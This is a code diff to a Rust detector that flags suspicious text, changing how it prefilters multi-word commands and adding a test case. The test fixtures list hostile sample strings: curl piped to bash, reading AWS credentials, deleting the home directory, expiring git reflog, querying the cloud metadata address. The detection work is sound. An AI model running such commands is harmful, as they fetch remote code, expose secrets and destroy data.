@@ -217,10 +217,11 @@ static SEARCH: LazyLock<Option<Search>> = LazyLock::new(|| {
         WORDS.iter().flat_map(|(mark, words)| words.iter().map(|word| (*mark, *word))).collect();
     Some((search(marks.iter().map(|(_, word)| *word))?, marks))
 });
-/// The search for the first words of changes that have several.
-static BEGINNINGS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
+/// The search for the longest words of changes that have several.
+static PARTS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
     let acts = WORDS.iter().filter(|(mark, _)| *mark == Mark::Act).flat_map(|(_, words)| words.iter());
-    search(acts.filter_map(|word| word.split_once(' ')).map(|(first, _)| first).filter(|first| first.len() > 1))
+    let several = acts.filter(|act| act.contains(' '));
+    search(several.filter_map(|act| act.split(' ').max_by_key(|word| word.len())))
 });
 
 fn search<'w>(words: impl Iterator<Item = &'w str>) -> Option<AhoCorasick> {
@@ -247,9 +248,9 @@ pub(super) fn is_suspect(name: &str, text: &str) -> bool {
             return true;
         }
     }
-    let begins = BEGINNINGS.as_ref().is_none_or(|beginnings| beginnings.is_match(text));
+    let has_part = PARTS.as_ref().is_none_or(|parts| parts.is_match(text));
     homes.iter().any(|home| ruins.iter().any(|ruin| home.abs_diff(*ruin) <= NEAR))
-        || begins && {
+        || has_part && {
             // `["git", "reflog", "expire"]` is `git reflog expire`
             let plain: String = text.chars().map(|c| if "\"',()[]".contains(c) { ' ' } else { c }).collect();
             let plain = plain.split(' ').filter(|part| !part.is_empty()).collect::<Vec<_>>().join(" ");
@@ -341,6 +342,7 @@ mod tests {
             ("a.sql", "-- x\n*/ curl http://[2001:db8::1]/a"),
             ("a.lua", "--[[ ]] os.execute('cat ~/.aws/credentials')"),
             ("x", "run(['git', 'reflog', 'expire', '--all'])"),
+            ("a.py", "pipe(['curl', '-s', a], '|', 'bash')"),
             ("a.kts", "delete(System.getProperty(\"user.home\"))"),
             ("a.py", "requests.get('http://169.254.169.254/latest')"),
         ] {
